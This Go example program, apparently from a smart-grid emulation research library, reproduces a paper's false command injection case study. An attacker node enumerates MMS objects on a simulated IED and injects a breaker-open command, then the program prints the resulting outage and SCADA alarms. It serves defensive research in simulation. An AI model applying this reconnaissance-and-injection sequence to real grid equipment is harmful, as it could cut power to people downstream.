// False command injection case study (§IV-B).
//
// "Assuming that the attacker has compromised one of the nodes in the system
// and run malwares like CrashOverride to transmit fake IEC 61850 MMS
// commands. [...] Once the IED receives a circuit breaker open command, the
// corresponding CB is operated, and the power flow change is calculated by
// the power flow simulator."
//
// The attacker box is attached to the transmission-segment switch, runs MMS
// reconnaissance (GetNameList), then injects a standard-compliant breaker
// open command at TIED1 — and the lights go out downstream.
//
// This example drives the attack interactively through the public red-team
// facades (repro/attack, repro/mms, repro/netem); the scenario DSL expresses
// the same injection declaratively (see examples/redblue).
package main

import (
	"context"
	"fmt"
	"log"
	"time"

	sgml "repro"

	"repro/attack"
	"repro/mms"
	"repro/netem"
)

func main() {
	ms, err := sgml.EPICModelSet()
	if err != nil {
		log.Fatal(err)
	}
	r, err := sgml.Compile(ms)
	if err != nil {
		log.Fatal(err)
	}
	defer r.Stop()

	// Attach the compromised node before the network starts.
	attackerHost, err := r.Built.AttachHost("attacker",
		netem.MustMAC("02:ba:d0:00:00:66"), netem.MustIPv4("10.0.1.66"), "sw-TransLAN")
	if err != nil {
		log.Fatal(err)
	}
	if err := r.Start(context.Background(), false); err != nil {
		log.Fatal(err)
	}
	now := time.Now()
	step := func(n int) {
		for i := 0; i < n; i++ {
			now = now.Add(r.Interval())
			if err := r.StepAll(now); err != nil {
				log.Fatal(err)
			}
		}
	}
	step(2)

	mainBus := "EPIC/VL22/TransBay/MainBus"
	before := r.Sim.LastResult()
	fmt.Printf("before attack: MainBus %.4f pu, energized=%v\n",
		before.Buses[mainBus].VmPU, before.Buses[mainBus].Energized)

	// --- reconnaissance ---------------------------------------------------
	fci := attack.NewFCI(attackerHost)
	victim := r.Built.AddrOf["TIED1"]
	names, err := fci.Enumerate(victim, 0)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nenumerated %d objects on TIED1 (10.0.1.21):\n", len(names))
	for _, n := range names {
		fmt.Println("  ", n)
	}

	// --- injection ---------------------------------------------------------
	fmt.Println("\ninjecting breaker-open command (MMS write to XCBR1.Pos.Oper)...")
	if err := fci.InjectCommand(victim, 0, "LD0/XCBR1.Pos.Oper", mms.NewBool(false)); err != nil {
		log.Fatal(err)
	}
	// The simulator picks the command up on its next interval; 2 s of steps
	// let the HMI read every data source again (EPIC's longest SCADA poll
	// period is 2000 ms).
	step(20)

	after := r.Sim.LastResult()
	fmt.Printf("\nafter attack: MainBus %.4f pu, energized=%v, dead buses=%d\n",
		after.Buses[mainBus].VmPU, after.Buses[mainBus].Energized, after.DeadBuses)
	fmt.Println("\nSCADA operator view (note the alarms):")
	fmt.Println(r.HMI.StatusPanel())
	for _, e := range r.HMI.Events() {
		fmt.Printf("scada event: %-14s %-18s %s\n", e.Kind, e.Point, e.Detail)
	}
}
